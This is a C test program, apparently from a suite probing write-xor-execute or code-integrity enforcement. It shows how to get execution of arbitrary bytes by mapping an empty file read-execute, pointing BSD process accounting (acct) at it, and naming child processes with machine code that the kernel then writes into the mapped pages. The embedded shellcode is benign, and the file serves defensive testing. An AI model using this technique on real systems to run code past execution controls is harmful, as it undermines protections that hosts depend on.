/*
 * Attack: code the kernel writes into a file for the tree, after the file
 * was mapped executable: BSD process accounting (acct(2), root).
 *
 * FILE exists before the run (empty: no time stamp of the run's). The
 * program maps two pages of it R-X (shared, or private with `private`)
 * while it is still empty (the pages lie past its end: nothing is read),
 * turns accounting on into it, and forks children whose comm
 * (PR_SET_NAME) is code with no zero byte (push 42; pop rax; ret) and a
 * marker. Each child's exit appends a 64-byte record (acct_v3) holding its
 * comm (at offset 48); the kernel writes it through the page cache the
 * mapping shows. Accounting is turned off again (acct(NULL)), the program
 * finds a record whose comm holds the code and calls it. Other processes
 * on the host append records too: the comm is found by its marker.
 * `creat` makes the program create FILE itself
 * (open O_CREAT read-only: no open for writing) before mapping it.
 *
 * `already`: accounting is on into FILE before the run (the host's): the
 * program makes no acct call, it maps FILE (shared) and names children.
 *
 * usage: attack_acct FILE [shared|private|creat|already]
 */
#include "common.h"

#include <sys/prctl.h>
#include <sys/stat.h>

#define CHILDREN 4

/* push 42; pop rax; ret, then a marker: a comm of 10 bytes, no zero byte. */
static const char COMM[] = "\x6a\x2a\x58\xc3TWACCT";

/* Fork children named COMM that exit at once. */
static void named_children(void)
{
	for (int i = 0; i < CHILDREN; i++) {
		pid_t child = fork();

		if (child == 0) {
			prctl(PR_SET_NAME, COMM, 0, 0, 0);
			_exit(0);
		}
		if (child > 0)
			waitpid(child, NULL, 0);
	}
}

int main(int argc, char **argv)
{
	const char *mode = argc > 2 ? argv[2] : "shared";
	size_t len = 2 * tw_page();
	const char *code;
	struct stat st;
	void *p;
	int fd, rc;

	tw_init();
	if (argc < 2 || argc > 3) {
		fprintf(stderr, "usage: %s FILE [shared|private|creat|already]\n", argv[0]);
		return 2;
	}
	fd = open(argv[1], O_RDONLY | O_CLOEXEC | (strcmp(mode, "creat") == 0 ? O_CREAT : 0), 0600);
	tw_step("file_open", "open", fd, errno);
	if (fd < 0)
		return 1;
	p = tw_mmap("file_rx_mmap", NULL, len, TW_RX, strcmp(mode, "private") == 0 ? MAP_PRIVATE : MAP_SHARED,
		    fd, 0);
	if (p == MAP_FAILED)
		return tw_done();
	if (strcmp(mode, "already") != 0) {
		rc = acct(argv[1]);
		tw_step("acct_on", "acct", rc, errno);
	}
	named_children();
	if (strcmp(mode, "already") != 0) {
		rc = acct(NULL);
		tw_step("acct_off", "acct", rc, errno);
	}
	if (fstat(fd, &st) != 0)
		return 1;
	code = memmem(p, (size_t)st.st_size < len ? (size_t)st.st_size : len, COMM, sizeof(COMM) - 1);
	if (code != NULL)
		tw_run("acct_call", code);
	return tw_done();
}
